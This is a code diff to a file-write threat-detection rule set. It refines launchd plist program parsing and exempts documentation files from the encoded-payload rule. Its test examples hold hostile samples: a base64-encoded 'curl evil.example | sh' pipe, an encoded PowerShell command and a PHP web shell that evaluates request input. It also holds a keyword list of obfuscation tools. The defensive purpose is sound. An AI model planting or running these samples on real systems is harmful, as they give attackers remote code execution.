@@ -1,5 +1,5 @@
 import { protectionGuards, protectionKey } from '../frames/field-keys.js';
-import { contentSanctioned, FILE_WRITE_FACT_PATTERNS, installHookSendsSecret, maintenanceOnly, ownKeysOnly, remoteCodeWithSecrets, PAM_OPENS, PAM_PATTERNS, pamStandardOnly, sshdTightensOnly, masterPassword, noteFalsifies, noteSanctioned, plainKeysOnly, plistMaintenance, serviceAccount, sudoDefaultsTightenOnly, sudoScopedToCommands, trailEmptied, worldWritableUmask } from '../parse/file-write-facts.js';
+import { contentSanctioned, FILE_WRITE_FACT_PATTERNS, installHookSendsSecret, maintenanceOnly, ownKeysOnly, remoteCodeWithSecrets, PAM_OPENS, PAM_PATTERNS, pamStandardOnly, sshdTightensOnly, masterPassword, noteFalsifies, noteSanctioned, plainKeysOnly, plistMaintenance, plistProgram, serviceAccount, sudoDefaultsTightenOnly, sudoScopedToCommands, trailEmptied, worldWritableUmask } from '../parse/file-write-facts.js';
 import { LOCKFILES, OFFICIAL_REGISTRY, unofficialSource } from '../parse/package-sources.js';
 import { exposedControlApi } from '../parse/exposed-control.js';
 import { metaString, normalizeUnicode } from '../normalize.js';
@@ -153,9 +153,9 @@ function selfNamedProgram(content: string, base = ''): boolean {
     if ((key === 'execstart' || key === 'exec') && exec === '') exec = value.split(' ')[0]!;
     else if ((key === 'description' || key === 'name') && name === '') name = value.toLowerCase().replace(/[^a-z0-9]/g, '');
   }
-  // a launchd property list: the program is the first string of ProgramArguments (or Program), the name its Label
+  // a launchd property list: the program is its Program, else the first string of ProgramArguments; the name its Label
   if (exec === '' && content.includes('<key>')) {
-    exec = plistString(content, 'ProgramArguments') || plistString(content, 'Program');
+    exec = plistProgram(content);
     if (name === '') name = plistString(content, 'Label').toLowerCase().replace(/[^a-z0-9]/g, '');
   }
   // without a Name line the entry's own file name (nextcloud.desktop) names it
@@ -1357,15 +1357,18 @@ const rules: ThreatRule<FileWriteContext>[] = [
     primitive: 'MANIPULATION',
     score: 7,
     keywords: ['base64', 'frombase64string', 'atob', 'fromcharcode', 'b64decode', 'fromhex', 'unhexlify', 'gzinflate', '-enc', '-e ', 'p,a,c,k,e', 'decompress', 'xxd', 'codecs', 'marshal'],
-    detect: (ctx) => (ctx.content === '' ? null : decodeExec(ctx.content)),
+    // a payload quoted in documentation (an incident write-up, a runbook) describes it: nothing there runs it
+    detect: (ctx) => (ctx.content === '' || (ctx.autorun === null && DOC_EXT.has(extOf(ctx.p.base))) ? null : decodeExec(ctx.content)),
     examples: {
       flag: [
         { value: 'init.sh', metadata: { content: 'echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh' } },
         { value: 'update.ps1', metadata: { content: 'powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA' } },
+        { value: 'wp-content/mu-plugins/cache-helper.php', metadata: { content: "<?php eval(base64_decode($_REQUEST['c'])); ?>" } },
       ],
       pass: [
         { value: 'src/img.ts', metadata: { content: 'const b64 = Buffer.from(png).toString("base64");' } },
         { value: 'scripts/decode.sh', metadata: { content: 'base64 -d cert.b64 > cert.pem' } },
+        { value: 'docs/incidents/2025-04-webshell.md', metadata: { content: "# Incident 2025-04\nWe found `mu-plugins/cache-helper.php` holding `eval(base64_decode($_REQUEST['c']))`; it was removed and the admin passwords rotated." } },
       ],
     },
   },
